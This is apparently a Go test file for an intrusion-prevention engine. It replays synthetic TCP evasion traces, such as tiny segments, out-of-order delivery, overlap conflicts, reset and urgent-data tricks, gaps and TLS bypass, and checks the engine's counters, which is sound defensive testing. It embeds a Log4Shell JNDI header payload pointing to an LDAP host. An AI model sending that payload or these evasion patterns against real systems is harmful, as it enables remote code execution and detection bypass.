package replay

import (
	"bytes"
	"net/netip"
	"path/filepath"
	"testing"

	"github.com/google/gopacket/layers"
	"github.com/openutm/utm/dataplane/engine"
	"github.com/openutm/utm/dataplane/internal/testpcap"
	"github.com/openutm/utm/signatures/bundle"
)

// conn writes one TCP connection segment by segment, for the evasion
// traces: sequence numbers are relative to the first data byte.
type conn struct {
	t          *testpcap.Trace
	cli, srv   netip.AddrPort
	cisn, sisn uint32
}

func newConn(t *testpcap.Trace, cli, srv string) *conn {
	k := &conn{t: t, cli: netip.MustParseAddrPort(cli), srv: netip.MustParseAddrPort(srv), cisn: 1001, sisn: 5001}
	k.raw(true, layers.TCP{SYN: true, Seq: k.cisn - 1}, nil)
	k.raw(false, layers.TCP{SYN: true, ACK: true, Seq: k.sisn - 1, Ack: k.cisn}, nil)
	k.raw(true, layers.TCP{ACK: true, Seq: k.cisn, Ack: k.sisn}, nil)
	return k
}

func (k *conn) raw(fromClient bool, tcp layers.TCP, payload []byte) {
	src, dst := k.cli, k.srv
	if !fromClient {
		src, dst = dst, src
	}
	tcp.SrcPort, tcp.DstPort, tcp.Window = layers.TCPPort(src.Port()), layers.TCPPort(dst.Port()), 64240
	k.t.Raw(testpcap.IP(src.Addr(), dst.Addr(), layers.IPProtocolTCP, &tcp, payload))
}

// c sends client bytes at off; s sends server bytes at off; ack numbers say
// what the other side received so far (cack, sack relative offsets).
func (k *conn) c(off uint32, data []byte, sack uint32) {
	k.raw(true, layers.TCP{ACK: true, PSH: true, Seq: k.cisn + off, Ack: k.sisn + sack}, data)
}

func (k *conn) s(off uint32, data []byte, cack uint32) {
	k.raw(false, layers.TCP{ACK: true, PSH: true, Seq: k.sisn + off, Ack: k.cisn + cack}, data)
}

// cAck is a pure client ACK of server bytes up to off.
func (k *conn) cAck(coff, off uint32) {
	k.raw(true, layers.TCP{ACK: true, Seq: k.cisn + coff, Ack: k.sisn + off}, nil)
}

var log4shellReq = []byte("GET /search?q=1 HTTP/1.1\r\nHost: www.lab.test\r\nX-Api-Version: ${jndi:ldap://198.18.2.66/" + canary + "}\r\n\r\n")

// tlsRecord frames a TLS record of type typ with n filler bytes.
func tlsRecord(typ byte, n int) []byte {
	r := []byte{typ, 3, 3, byte(n >> 8), byte(n)}
	return append(r, bytes.Repeat([]byte{0x5a}, n)...)
}

// evasionCases are TCP evasion traces: tcp-<name>.pcap with a golden
// eve.json, and what the engine's counters must show.
var evasionCases = []struct {
	name  string
	build func(t *testpcap.Trace)
	check func(t *testing.T, res Result, s *engine.Stats)
}{
	{"tiny-segments", func(t *testpcap.Trace) {
		// Log4Shell header split into 1-byte segments: reassembly is byte
		// based, so it is caught as if sent whole; the flow is counted.
		k := newConn(t, "198.18.1.2:41001", "198.18.2.2:80")
		for i := range log4shellReq {
			k.c(uint32(i), log4shellReq[i:i+1], 0)
		}
	}, func(t *testing.T, res Result, s *engine.Stats) {
		if s.Stream.TinySegmentFlows.Load() != 1 || res.Dropped == 0 {
			t.Errorf("tiny-segment flows %d, dropped %d", s.Stream.TinySegmentFlows.Load(), res.Dropped)
		}
	}},
	{"out-of-order", func(t *testpcap.Trace) {
		// The request in 10-byte segments sent last first: nothing is
		// delivered until the first segment comes, then all of it is
		// inspected while that packet is held.
		k := newConn(t, "198.18.1.2:41002", "198.18.2.2:80")
		for off := (len(log4shellReq) - 1) / 10 * 10; off >= 0; off -= 10 {
			k.c(uint32(off), log4shellReq[off:min(off+10, len(log4shellReq))], 0)
		}
	}, func(t *testing.T, res Result, s *engine.Stats) {
		if res.Dropped != 1 {
			t.Errorf("dropped %d, want only the packet that completed the request", res.Dropped)
		}
	}},
	{"overlap-conflict", func(t *testpcap.Trace) {
		// The exploit arrives first, out of order; a later segment covering
		// it with harmless bytes is dropped (first wins, conflict alert);
		// the real start of the request completes the original: Log4Shell.
		k := newConn(t, "198.18.1.2:41003", "198.18.2.2:80")
		k.c(40, log4shellReq[40:], 0)
		harmless := bytes.ReplaceAll(append([]byte(nil), log4shellReq...), []byte("${jndi:"), []byte("harmles"))
		k.c(0, harmless, 0)
		k.c(0, log4shellReq[:40], 0)
	}, func(t *testing.T, res Result, s *engine.Stats) {
		if s.Stream.Conflicts.Load() != 1 || res.Dropped != 2 {
			t.Errorf("conflicts %d, dropped %d (want 1, 2)", s.Stream.Conflicts.Load(), res.Dropped)
		}
	}},
	{"retransmission-changed", func(t *testpcap.Trace) {
		// A harmless request passes; a "retransmission" of the same bytes
		// carrying the exploit is dropped as a conflict, never inspected
		// as the stream and never delivered.
		k := newConn(t, "198.18.1.2:41004", "198.18.2.2:80")
		harmless := bytes.ReplaceAll(append([]byte(nil), log4shellReq...), []byte("${jndi:"), []byte("harmles"))
		k.c(0, harmless, 0)
		k.c(0, log4shellReq, 0)
		k.s(0, httpResponse([]byte("ok"), ""), uint32(len(harmless)))
	}, func(t *testing.T, res Result, s *engine.Stats) {
		if s.Stream.Conflicts.Load() != 1 || res.Dropped != 1 {
			t.Errorf("conflicts %d, dropped %d (want 1, 1)", s.Stream.Conflicts.Load(), res.Dropped)
		}
	}},
	{"rst-then-data", func(t *testpcap.Trace) {
		// A reset with a wrong seq changes nothing (the exploit after it
		// is inspected and dropped); after a valid reset, data is dropped
		// without being inspected.
		k := newConn(t, "198.18.1.2:41005", "198.18.2.2:80")
		k.raw(true, layers.TCP{RST: true, Seq: k.cisn + 70000}, nil)
		k.c(0, log4shellReq, 0)
		k2 := newConn(t, "198.18.1.2:41006", "198.18.2.2:80")
		k2.raw(true, layers.TCP{RST: true, Seq: k2.cisn}, nil)
		k2.c(0, []byte("GET /after-reset HTTP/1.1\r\nHost: www.lab.test\r\n\r\n"), 0)
	}, func(t *testing.T, res Result, s *engine.Stats) {
		if s.Stream.BadRST.Load() != 1 || s.Stream.AfterClose.Load() != 1 || res.Dropped != 2 {
			t.Errorf("bad RSTs %d, after close %d, dropped %d (want 1, 1, 2)", s.Stream.BadRST.Load(), s.Stream.AfterClose.Load(), res.Dropped)
		}
	}},
	{"urgent-fin", func(t *testpcap.Trace) {
		// Urgent data is dropped (★ alert); data past the FIN is dropped.
		k := newConn(t, "198.18.1.2:41007", "198.18.2.2:80")
		req := []byte("GET /u HTTP/1.1\r\nHost: www.lab.test\r\n\r\n")
		k.raw(true, layers.TCP{ACK: true, PSH: true, URG: true, Urgent: 5, Seq: k.cisn, Ack: k.sisn}, req)
		k.c(0, req, 0)
		k.raw(true, layers.TCP{ACK: true, FIN: true, Seq: k.cisn + uint32(len(req)), Ack: k.sisn}, nil)
		k.c(uint32(len(req)), []byte("GET /x HTTP/1.1\r\n\r\n"), 0)
	}, func(t *testing.T, res Result, s *engine.Stats) {
		if s.Stream.Urgent.Load() != 1 || s.Stream.AfterClose.Load() != 1 || res.Dropped != 2 {
			t.Errorf("urgent %d, after close %d, dropped %d (want 1, 1, 2)", s.Stream.Urgent.Load(), s.Stream.AfterClose.Load(), res.Dropped)
		}
	}},
	{"eicar-hole", func(t *testpcap.Trace) {
		// The segment carrying the EICAR bytes went past the engine (it
		// failed open); the client's ACK shows it arrived. The engine
		// declares a gap: the file is reported partial, the flow goes on.
		k := newConn(t, "198.18.1.2:41008", "198.18.2.2:80")
		req := []byte("GET /eicar.com HTTP/1.1\r\nHost: www.lab.test\r\n\r\n")
		k.c(0, req, 0)
		cl := uint32(len(req))
		body := append(append([]byte(nil), eicar...), bytes.Repeat([]byte("pad "+canary+"\n"), 100)...)
		resp := httpResponse(body, "")
		hdr := len(resp) - len(body)
		k.s(0, resp[:hdr], cl)
		k.cAck(cl, uint32(hdr))
		// resp[hdr:hdr+500] is not in the capture.
		k.s(uint32(hdr+500), resp[hdr+500:hdr+1000], cl)
		k.cAck(cl, uint32(hdr+1000))
		k.s(uint32(hdr+1000), resp[hdr+1000:], cl)
		k.cAck(cl, uint32(len(resp)))
	}, func(t *testing.T, res Result, s *engine.Stats) {
		if s.Stream.Gaps.Load() != 1 || s.Stream.GapBytes.Load() != 500 || s.FilesPartial.Load() != 1 || res.Dropped != 0 {
			t.Errorf("gaps %d (%d bytes), partial files %d, dropped %d (want 1, 500, 1, 0)", s.Stream.Gaps.Load(), s.Stream.GapBytes.Load(), s.FilesPartial.Load(), res.Dropped)
		}
	}},
	{"tls-bypass", func(t *testpcap.Trace) {
		// A TLS-looking flow is followed until both sides encrypt, then
		// bypassed: later packets are accepted uninspected.
		k := newConn(t, "198.18.1.2:41009", "198.18.2.2:443")
		hello := tlsRecord(22, 200)
		k.c(0, hello, 0)
		srv := append(append(tlsRecord(22, 300), tlsRecord(20, 1)...), tlsRecord(23, 50)...)
		k.s(0, srv, uint32(len(hello)))
		cfin := append(tlsRecord(20, 1), tlsRecord(23, 40)...)
		k.c(uint32(len(hello)), cfin, uint32(len(srv)))
		off := uint32(len(hello) + len(cfin))
		for i := 0; i < 5; i++ {
			app := tlsRecord(23, 100)
			app = append(app, []byte(canary)...) // not a record: would break TLS tracking if inspected
			k.c(off, app, uint32(len(srv)))
			off += uint32(len(app))
		}
	}, func(t *testing.T, res Result, s *engine.Stats) {
		if s.Stream.BypassTLS.Load() != 1 || s.Bypassed.Load() != 6 || res.Dropped != 0 {
			t.Errorf("TLS bypasses %d, bypassed packets %d, dropped %d (want 1, 6, 0)", s.Stream.BypassTLS.Load(), s.Bypassed.Load(), res.Dropped)
		}
	}},
}

func TestEvasionGolden(t *testing.T) {
	b, err := bundle.Default()
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range evasionCases {
		t.Run(c.name, func(t *testing.T) {
			pcap := filepath.Join("testdata", "tcp-"+c.name+".pcap")
			golden := filepath.Join("testdata", "tcp-"+c.name+".golden.json")
			got, res, eng := replayTrace(t, b, pcap, testpcap.RawIP, c.build)
			c.check(t, res, eng.Stats())
			t.Logf("%s: %+v", c.name, res)
			compareGolden(t, golden, got)
		})
	}
}
